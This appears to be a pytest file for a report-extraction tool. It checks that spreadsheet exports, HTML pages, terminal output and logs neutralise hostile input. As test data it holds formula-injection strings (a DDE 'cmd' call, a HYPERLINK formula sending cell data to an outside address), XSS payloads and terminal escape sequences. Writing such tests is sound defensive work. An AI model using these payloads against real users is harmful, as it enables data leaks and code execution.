"""What a report says on its way out: to a spreadsheet, a browser, a terminal."""

from __future__ import annotations

import logging
import re
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from baogao.cli.progress import failed_line
from baogao.console import InertFormatter, inert, log_to_terminal, shown
from baogao.llm.server import EmbeddedServer
from baogao.outputs.delimited import may_be_formula
from baogao.outputs.export import write_table
from baogao.schema.values import Item, TextAnswer
from cli.conftest import GOOD
from outputs.conftest import record

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =cmd|' /C calc'!A0",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "　=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    *(
        f"{unseen}=1"
        for unseen in "\x00\x1f\x7f\u00ad\u034f\u061c\u115f\u1160\u17b4\u180b\u180e\u2800\u3164\uffa0\ufe0f"
    ),
    *(f"{unseen}-1" for unseen in "\ufff9\ufff0\U0001d173\U000e0000\U000e0001\U000e007f\U000e0100\U000e01ef"),
    "\u00ad \ufe0f\U000e0020@SUM(A1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫SUM(A1)",
]
NO_FORMULAS = ["报告", "全年-1", "\u00ad报告=1", "1=1", "——", "（一）", "", "\u200b", "'=1", "①"]
PAGES = ("index.html", "matrix.html")
"""What a run writes for people; each has a link to the other."""
ATTACKS = [
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[31m",
    "\x9b31m",
    "\u202e\u2066txt",
    "\u200b\u2028\ud800",
    "[bold]x[/bold][link=http://192.0.2.1]y[/link]",
    "a\rb\x08",
]


@pytest.fixture(scope="module")
def flagship():
    """The flagship schema."""
    from baogao.schema import load_schema

    return load_schema()


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_no_cell_is_a_formula(flagship, tmp_path, text, suffix):
    """A text that a spreadsheet program would run, past blanks and unseen characters too, stays a text."""
    items = {"problems": [Item(text=text, evidence=[(0, 1)])]}
    hostile = record(text, flagship, source=text, metadata={"title": TextAnswer(value=text)}, lists=items)
    path = tmp_path / f"out{suffix}"
    write_table([hostile], flagship, path)
    if suffix == ".csv":
        row = pl.read_csv(path, infer_schema=False).row(0, named=True)
        for name in ("doc_id", "source", "title"):
            assert row[name].startswith("'")
        return
    sheet = openpyxl.load_workbook(path)["figures"]
    assert {cell.data_type for cells in sheet.iter_rows() for cell in cells} <= {"s", "n"}
    assert not any(cell.hyperlink for cells in sheet.iter_rows() for cell in cells)


@pytest.mark.parametrize("text", NO_FORMULAS)
def test_what_is_no_formula_is_left_alone(text):
    """A text that begins with something that is seen, and is no sign, comes out as it is."""
    assert not may_be_formula(text)


@given(st.text(st.characters(categories=["Cc", "Cf", "Cn", "Co", "M", "Z"])), st.sampled_from("=+-@＝＋－＠"))
def test_no_run_of_unseen_characters_hides_a_formula(unseen, sign):
    """However many characters that are not seen stand before the sign, it is found."""
    assert may_be_formula(f"{unseen}{sign}1")


class Page(HTMLParser):
    """The tags of a page with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.append((tag, dict(attrs)))


def check_closed(html: str) -> None:
    """Fail when a page could fetch something, or run a script that is not its own."""
    tags = Page(html).tags
    policies = [attrs["content"] or "" for tag, attrs in tags if tag == "meta" and "http-equiv" in attrs]
    assert len(policies) == 1
    assert policies[0].startswith("default-src 'none'")
    assert re.search(r"script-src 'sha256-[\w+/=]+'", policies[0])
    assert "base-uri 'none'" in policies[0]
    for tag, attrs in tags:
        assert tag not in {"iframe", "object", "embed", "base", "form"}
        assert not any(name.startswith("on") for name in attrs)
        for name in ("src", "href"):
            assert (attrs.get(name) or "#").startswith(("#", "data:")) or attrs[name] in PAGES
        assert attrs.get("type") != "text/javascript" or tag == "script"


def test_the_pages_of_a_run_fetch_nothing(extract, reports):
    """Each one file, one policy, no address, no script but its own, whatever the report and its name say."""
    (reports / "<img src=x onerror=alert(1)>.txt").write_text(
        "</script><script>alert(1)</script><!--" + GOOD, encoding="utf-8"
    )
    assert extract(reports).code == 0
    for page in PAGES:
        html = (Path("out") / page).read_text(encoding="utf-8")
        check_closed(html)
        assert "<script>alert" not in html
        assert "<img src=x" not in html


def test_the_report_of_an_evaluation_fetches_nothing(baogao, tmp_path):
    """The same holds for the page of an evaluation."""
    from baogao.evaluation.compiling import build_dataset
    from baogao.schema import load_schema
    from cli.conftest import COMMUNIQUE

    build_dataset(sorted(COMMUNIQUE.parent.glob("*.marked.txt")), tmp_path / "set", load_schema(COMMUNIQUE))
    where = ("--schema", COMMUNIQUE, "--out", tmp_path / "run", "--extractor", "rules")
    assert baogao("eval", tmp_path / "set", *where).code == 0
    check_closed((tmp_path / "run" / "report.html").read_text(encoding="utf-8"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_terminal_obeys_nothing(attack, flagship, capsys):
    """Escape codes, directions of writing and rich's own markup in names and errors are spelt out."""
    failed = record("a", flagship, status="failed", source=f"reports/{attack}", error=f"bad: {attack}")
    console = Console(force_terminal=False, width=200)
    for line in (failed_line(failed), shown(attack)):
        console.print(line, highlight=False, soft_wrap=True)
    said = capsys.readouterr().out
    assert not set(said) & set("\x1b\x07\x9b\u202e\u2066\u200b\u2028\ud800\r\x08")
    if attack.startswith("["):
        assert "[bold]x[/bold]" in said


def test_no_command_prints_what_a_file_name_says(extract, baogao, reports):
    """Names with escape codes go through extract, candidates, export and review without effect."""
    name = "r\x1b]0;owned\x07\u202e.txt"
    (reports / name).write_text(GOOD, encoding="utf-8")
    (reports / "empty\x1b[31m.txt").write_text("", encoding="utf-8")
    outcomes = [extract(reports), extract(reports, "--dry-run"), baogao("candidates", reports / name, "--json")]
    outcomes += [baogao("candidates", reports / "empty\x1b[31m.txt"), baogao("extract", "\x1b[31m", "--out", "out")]
    outcomes += [baogao("gold", "check", reports), baogao("review", "\x1b]0;x\x07")]
    for outcome in outcomes:
        assert not re.search("[\x1b\x07\x9b\u202e]", outcome.out + outcome.err)
        assert "Traceback" not in outcome.err


def test_log_lines_are_inert(capsys):
    """A log line, its traceback included, keeps its own line ends and spells everything else out."""
    try:
        raise ValueError("\x1b[31mred\u202e")
    except ValueError:
        line = InertFormatter("%(message)s").format(
            logging.LogRecord("a", logging.ERROR, "f", 1, "x\x1b%s", ("\x07",), __import__("sys").exc_info())
        )
    assert "\\x1b[31mred" in line
    assert line.count("\n") > 2
    assert not set(line) & set("\x1b\x07\u202e")
    log_to_terminal()
    assert logging.lastResort is not None
    assert isinstance(logging.lastResort.formatter, InertFormatter)
    assert inert("报告\u200b[x]") == "报告\\u200b[x]"


def test_the_embedded_server_is_told_to_listen_on_loopback(tmp_path):
    """No option and no variable makes a server that is started here listen to other machines."""
    server = EmbeddedServer(tmp_path / "m.gguf")
    assert [option for option in server._options if option.startswith("--host")] == ["--host=127.0.0.1"]
    from baogao.cli.model import serve_model

    assert "host" not in serve_model.__annotations__
